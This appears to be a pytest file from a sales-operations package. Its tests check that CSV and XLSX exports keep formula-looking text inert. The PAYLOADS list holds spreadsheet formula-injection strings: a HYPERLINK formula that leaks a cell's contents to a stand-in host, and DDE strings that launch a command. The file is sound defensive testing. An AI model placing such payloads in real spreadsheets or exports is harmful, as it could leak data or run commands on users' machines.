"""Exported CSV/XLSX never carry a live formula: formula-looking text stays text.

Rep names and a team are set to ``=HYPERLINK(...)``, ``+cmd``, ``-2+3``, ``@SUM`` payloads
(as a CRM export can hold); the segmentation's CSV and XLSX exports are read back raw. The
sample writer's CSV/XLSX are checked to hold no formula-leading text cell at all.
"""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd

from salesops_nb import segmentation as seg
from salesops_nb.data.load import load_opportunities
from salesops_nb.data.sample import generate_crm, write_sample

PAYLOADS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _poisoned_deals() -> pd.DataFrame:
    deals = load_opportunities()
    reps = deals["rep_name"].drop_duplicates().tolist()
    mapping = {rep: PAYLOADS[i % len(PAYLOADS)] + f" {i}" for i, rep in enumerate(reps[:12])}
    deals["rep_name"] = deals["rep_name"].replace(mapping)
    return deals


def test_segmentation_exports_keep_formula_text_as_text(tmp_path):
    result = seg.analyse(_poisoned_deals(), schemes=False)
    written = seg.export(result, tmp_path, formats="csv,xlsx")

    with open(written["csv"], newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the names are there...
    assert not [c for c in cells if c.startswith(RISKY) and not _number(c)]  # ...defused

    sheet = openpyxl.load_workbook(written["xlsx"]).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in values)
    assert not [c for c in values if c.data_type == "f"]  # no formula cell
    assert not [c.value for c in values
                if isinstance(c.value, str) and c.value.startswith(RISKY)]


def test_sample_writer_writes_no_formula_leading_text(tmp_path):
    for fmt in ("csv", "xlsx"):
        paths = write_sample(generate_crm(400, messy=True), tmp_path / fmt, fmt=fmt)
        for path in paths.values():
            frame = (pd.read_csv(path, dtype=str, keep_default_na=False) if fmt == "csv"
                     else pd.read_excel(path, dtype=str).fillna(""))
            text = frame.stack()
            risky = text[text.str.startswith(RISKY) & ~text.map(_number)]
            assert risky.empty, (path.name, risky.head().tolist())


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
